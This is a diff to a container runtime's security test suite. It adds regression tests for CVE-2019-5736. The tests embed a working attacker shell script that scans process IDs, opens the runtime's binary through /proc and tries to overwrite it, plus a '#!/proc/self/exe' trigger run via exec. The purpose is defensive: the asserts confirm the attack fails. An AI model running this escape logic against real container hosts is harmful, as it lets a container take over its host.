@@ -61,7 +61,7 @@ while [ $(date +%s) -lt $end ] && [ ! -e /out/stop ]; do
     exe=$(readlink $d/exe 2>/dev/null) || { [ -e $d ] && echo "denied $p" >> $log; continue; }
     case "$exe" in */busybox|"") continue;; esac
     echo "target $p $exe" >> $log
-    if exec 3< $d/exe; then
+    if command exec 3< $d/exe 2>/dev/null; then  # `command`: a failed open is not fatal
       echo "opened $p $exe" >> $log
       i=0
       while [ $i -lt 100 ]; do
@@ -74,6 +74,47 @@ while [ $(date +%s) -lt $end ] && [ ! -e /out/stop ]; do
 done
 echo done >> $log
 """
+
+
+# The same attack for a short-lived target: scan the next PIDs with shell builtins only
+# (no fork per probe), so that a process that lives milliseconds is still caught.
+ATTACKER_FAST = r"""
+log=/out/log
+echo start >> $log
+attack() {
+  exe=$(readlink /proc/self/fd/3)
+  case "$exe" in */busybox|"") return;; esac
+  echo "opened $1 $exe" >> $log
+  i=0
+  while [ $i -lt 100 ]; do
+    if (echo PWNED > /proc/self/fd/3) 2>/dev/null; then echo "WROTE $exe" >> $log; break; fi
+    i=$((i+1)); sleep 0.1
+  done
+}
+while [ ! -e /out/stop ]; do
+  base=$(sh -c 'echo $$')
+  n=0
+  while [ $n -lt 300 ]; do
+    p=$((base + 1 + n % 30))
+    if command exec 3< /proc/$p/exe 2>/dev/null; then attack $p; exec 3<&-; fi
+    n=$((n+1))
+  done
+done
+echo done >> $log
+"""
+
+
+def _install_runtime_libs(rootfs: str, binary: str) -> None:
+    """Give the image the shared libraries (and loader) the host's interpreter needs, as a
+    glibc image has: otherwise a host runtime exec'd in the container could not even
+    start, and the exploit would fail for a reason that protects nobody."""
+    out = subprocess.run(["ldd", binary], capture_output=True, text=True).stdout
+    for line in out.splitlines():
+        path = line.split("=>")[-1].split("(")[0].strip()
+        if path.startswith("/"):
+            dest = os.path.join(rootfs, path.lstrip("/"))
+            os.makedirs(os.path.dirname(dest), exist_ok=True)
+            shutil.copy2(os.path.realpath(path), dest)
 
 
 def test_cve_2019_5736_runtime_binary_not_overwritable(pyoci, new_bundle, cid, base_config,
@@ -97,6 +138,7 @@ def test_cve_2019_5736_runtime_binary_not_overwritable(pyoci, new_bundle, cid, b
     host_python = os.path.join(victim, "host-python")
     shutil.copy2(os.path.realpath(sys.executable), host_python)
     before = _sha256(host_python)
+    _install_runtime_libs(os.path.join(victim, "rootfs"), host_python)
     evil = os.path.join(victim, "rootfs", "evil")
     with open(evil, "w") as f:
         f.write("#!/proc/self/exe\n")
@@ -129,6 +171,48 @@ def test_cve_2019_5736_runtime_binary_not_overwritable(pyoci, new_bundle, cid, b
     assert "start" in log, log
     assert "WROTE" not in log, log
     assert host_python not in log and "python" not in log, log
+    assert _sha256(host_python) == before
+
+
+def test_cve_2019_5736_through_exec(pyoci, new_bundle, cid, base_config, write_config):
+    """The original exploit: the container's program is replaced by ``#!/proc/self/exe``
+    and the runtime is made to exec it (``docker exec``, here ``pyoci exec``) while a
+    process of the container waits to rewrite the runtime's binary."""
+    bundle = new_bundle()
+    out_dir = os.path.join(bundle, "out")
+    os.mkdir(out_dir)
+    evil = os.path.join(bundle, "rootfs", "evil")
+    with open(evil, "w") as f:
+        f.write("#!/proc/self/exe\n")
+    os.chmod(evil, 0o755)
+    cfg = base_config(["sh", "-c", ATTACKER_FAST])
+    cfg["root"]["readonly"] = False
+    cfg["mounts"].append({"destination": "/out", "type": "bind", "source": out_dir,
+                          "options": ["rbind"]})
+    write_config(bundle, cfg)
+    host_python = os.path.join(bundle, "host-python")
+    shutil.copy2(os.path.realpath(sys.executable), host_python)
+    _install_runtime_libs(os.path.join(bundle, "rootfs"), host_python)
+    before = _sha256(host_python)
+    site = [p for p in sys.path if p.endswith("site-packages")]
+    env = {**os.environ, "PYTHONPATH": ":".join([REPO, *site])}
+    runtime = [host_python, "-m", "pyoci", "--root", pyoci.root]
+    ok(pyoci("create", "--bundle", bundle, cid))
+    try:
+        ok(pyoci("start", cid))
+        time.sleep(1)
+        for _ in range(3):
+            subprocess.run([*runtime, "exec", cid, "/evil"], env=env, capture_output=True,
+                           timeout=60, stdin=subprocess.DEVNULL)
+            time.sleep(0.5)
+        time.sleep(6)  # the copy runs nowhere now: a held fd could write it
+    finally:
+        open(os.path.join(out_dir, "stop"), "w").close()
+        time.sleep(1)
+        pyoci("delete", "--force", cid)
+    log = _read(os.path.join(out_dir, "log"))
+    assert "start" in log, log
+    assert "WROTE" not in log and "python" not in log, log
     assert _sha256(host_python) == before
 
 
